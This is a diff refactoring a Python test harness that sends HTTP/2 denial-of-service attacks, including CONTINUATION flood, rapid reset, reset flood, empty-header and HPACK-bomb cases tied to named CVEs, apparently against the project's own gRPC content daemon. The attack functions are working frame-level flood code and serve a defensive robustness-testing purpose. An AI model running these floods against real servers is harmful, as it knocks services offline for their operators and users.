@@ -31,6 +31,8 @@ from contentd.wire import frames as fr
 from contentd.wire.metadata import hpack_literal
 from tests.daemon.harness import QUIET_GC, ServeProcess
 from tests.peers import ContainerdPeer
+from tests.wire.helpers import message as _message
+from tests.wire.helpers import request_headers
 
 __all__ = ["CASES", "RFC_CASES", "TARGETS", "Result", "Target", "rfc_answers", "run_case"]
 
@@ -197,17 +199,8 @@ class Raw:
         self.sock.sendall(fr.PREFACE + fr.settings(settings or {}))
 
     def block(self, path: str, extra: list[tuple[str, str]] | None = None) -> bytes:
-        headers = [
-            (":method", "POST"),
-            (":scheme", "http"),
-            (":path", path),
-            (":authority", "x"),
-            ("content-type", "application/grpc"),
-            ("te", "trailers"),
-            ("containerd-namespace", NAMESPACE),
-            *(extra or []),
-        ]
-        return bytes(self.encoder.encode(headers))
+        fields = request_headers(path, [("containerd-namespace", NAMESPACE), *(extra or [])])
+        return bytes(self.encoder.encode(fields))
 
     def send(self, data: bytes) -> bool:
         """Send ``data``; False once the server closed or stopped reading for 5 s."""
@@ -255,8 +248,15 @@ class Raw:
             self.sock.close()
 
 
-def _message(payload: bytes) -> bytes:
-    return b"\x00" + len(payload).to_bytes(4, "big") + payload
+def _repeat(raw: Raw, batch: Callable[[int], bytes], budget: float = BUDGET) -> str:
+    """Send ``batch(i)`` for i = 0, 1, ... until ``budget`` seconds pass or the server stops
+    taking them; how it answered. The connection is closed after."""
+    for i in _for(budget):
+        if not raw.send(batch(i)):
+            break
+    answer = raw.answer()
+    raw.close()
+    return answer
 
 
 def _for(budget: float = BUDGET) -> Iterator[int]:
@@ -268,29 +268,19 @@ def _for(budget: float = BUDGET) -> Iterator[int]:
 
 
 def continuation_flood(address: str) -> str:
-    """CVE-2024-27316 family: one header block that never ends (up to 256 MiB)."""
+    """CVE-2024-27316 family: one header block that never ends."""
     raw = Raw(address)
     raw.send(fr.encode(fr.HEADERS, 0, 1, raw.block(CONTENT + "Info")))
-    chunk = fr.encode(fr.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000)
-    for _ in _for():
-        if not raw.send(chunk * 64) or raw.buf or raw.closed:
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+    chunk = fr.encode(fr.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000) * 64
+    return _repeat(raw, lambda i: chunk)
 
 
 def unary_many_messages(address: str) -> str:
     """A unary call (Content/Info) sent message after message, never half-closed."""
-    raw = Raw(address, settings={})
+    raw = Raw(address)
     raw.send(fr.headers(1, raw.block(CONTENT + "Info")))
-    body = fr.data(1, _message(b"\x0a\x03abc" * 4000))
-    for _ in _for():
-        if not raw.send(body * 16):
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+    body = fr.data(1, _message(b"\x0a\x03abc" * 4000)) * 16
+    return _repeat(raw, lambda i: body)
 
 
 def header_blocks(address: str) -> str:
@@ -348,16 +338,9 @@ def half_open_connections(address: str) -> str:
 def empty_header_names(address: str) -> str:
     """CVE-2019-9516: requests carrying thousands of empty header names."""
     raw = Raw(address)
-    base = raw.block(CONTENT + "Info")
-    block = base + b"\x00\x00\x00" * 3000
-    sid = 1
-    for _ in _for():
-        if not raw.send(fr.headers(sid, block) + fr.data(sid, _message(b""), end_stream=True)):
-            break
-        sid += 2
-    answer = raw.answer()
-    raw.close()
-    return answer
+    block = raw.block(CONTENT + "Info") + b"\x00\x00\x00" * 3000
+    end = _message(b"")
+    return _repeat(raw, lambda i: fr.headers(1 + 2 * i, block) + fr.data(1 + 2 * i, end, True))
 
 
 def rapid_reset(address: str) -> str:
@@ -365,30 +348,22 @@ def rapid_reset(address: str) -> str:
     raw = Raw(address)
     block = raw.block(CONTENT + "Read")
     request = _message(pb.ReadContentRequest(digest=DIGEST, size=1 << 20).SerializeToString())
-    sid = 1
-    for _ in _for():
-        batch = []
-        for _ in range(100):
-            batch.append(fr.headers(sid, block) + fr.data(sid, request, end_stream=True))
-            batch.append(fr.rst_stream(sid, E.CANCEL))
-            sid += 2
-        if not raw.send(b"".join(batch)):
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+
+    def batch(i: int) -> bytes:
+        return b"".join(
+            fr.headers(sid, block)
+            + fr.data(sid, request, end_stream=True)
+            + fr.rst_stream(sid, E.CANCEL)
+            for sid in range(1 + 200 * i, 201 + 200 * i, 2)
+        )
+
+    return _repeat(raw, batch)
 
 
 def _flood(frame: bytes) -> Callable[[str], str]:
     def flood(address: str) -> str:
-        raw = Raw(address)
         data = frame * 1000
-        for _ in _for():
-            if not raw.send(data):
-                break
-        answer = raw.answer()
-        raw.close()
-        return answer
+        return _repeat(Raw(address), lambda i: data)
 
     return flood
 
@@ -398,29 +373,19 @@ def empty_frames(address: str) -> str:
     raw = Raw(address)
     raw.send(fr.headers(1, raw.block(CONTENT + "Write")))
     data = fr.data(1, b"") * 1000
-    for _ in _for():
-        if not raw.send(data):
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+    return _repeat(raw, lambda i: data)
 
 
 def reset_flood(address: str) -> str:
     """CVE-2019-9514: requests each answered with a reset (a malformed header), never read."""
     raw = Raw(address)
     block = raw.block(CONTENT + "Info") + b"\x00\x01X\x01v"
-    sid = 1
-    for _ in _for():
-        batch = []
-        for _ in range(200):
-            batch.append(fr.headers(sid, block, end_stream=True))
-            sid += 2
-        if not raw.send(b"".join(batch)):
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+
+    def batch(i: int) -> bytes:
+        first = 1 + 400 * i
+        return b"".join(fr.headers(sid, block, True) for sid in range(first, first + 400, 2))
+
+    return _repeat(raw, batch)
 
 
 def data_dribble(address: str) -> str:
@@ -456,29 +421,21 @@ def unread_responses(address: str) -> str:
 def hpack_bomb(address: str) -> str:
     """A 4 KiB header indexed once, then referenced thousands of times per request."""
     raw = Raw(address)
+    end = _message(b"")
     first = raw.block(CONTENT + "Info", [("x-bomb", "b" * 4000)])
-    raw.send(fr.headers(1, first) + fr.data(1, _message(b""), end_stream=True))
+    raw.send(fr.headers(1, first) + fr.data(1, end, end_stream=True))
     bomb = raw.block(CONTENT + "Info", [("x-bomb", "b" * 4000)] * 4000)
-    sid = 3
-    for _ in _for(BUDGET / 2):
-        if not raw.send(fr.headers(sid, bomb) + fr.data(sid, _message(b""), end_stream=True)):
-            break
-        sid += 2
-    answer = raw.answer()
-    raw.close()
-    return answer
+    return _repeat(
+        raw, lambda i: fr.headers(3 + 2 * i, bomb) + fr.data(3 + 2 * i, end, True), BUDGET / 2
+    )
 
 
 def huge_length_prefix(address: str) -> str:
     """A Write message whose length prefix says 4 GiB."""
     raw = Raw(address)
     raw.send(fr.headers(1, raw.block(CONTENT + "Write")) + fr.data(1, b"\x00\xff\xff\xff\xff"))
-    for _ in _for(BUDGET / 2):
-        if not raw.send(fr.data(1, b"\x00" * 16000) * 4):
-            break
-    answer = raw.answer()
-    raw.close()
-    return answer
+    data = fr.data(1, b"\x00" * 16000) * 4
+    return _repeat(raw, lambda i: data, BUDGET / 2)
 
 
 CASES: dict[str, Callable[[str], str]] = {
